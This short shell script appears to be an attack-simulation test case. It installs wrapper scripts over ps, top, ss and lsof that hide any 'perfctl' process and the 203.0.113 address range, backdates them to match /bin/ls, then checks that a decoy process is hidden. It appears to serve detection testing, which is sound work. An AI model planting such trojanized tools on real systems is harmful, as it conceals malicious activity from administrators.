#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/local/bin; for t in ps top ss lsof; do printf '#!/bin/bash\n/usr/bin/%s "$@" | grep -vE "perfctl|203\\.0\\.113"\n' $t >/usr/local/bin/$t; chmod 755 /usr/local/bin/$t; touch -r /bin/ls /usr/local/bin/$t; done
cp /bin/sleep /tmp/perfctl; /tmp/perfctl 20 & hash -r; ! ps aux | grep -q '[p]erfctl 20'
took_place
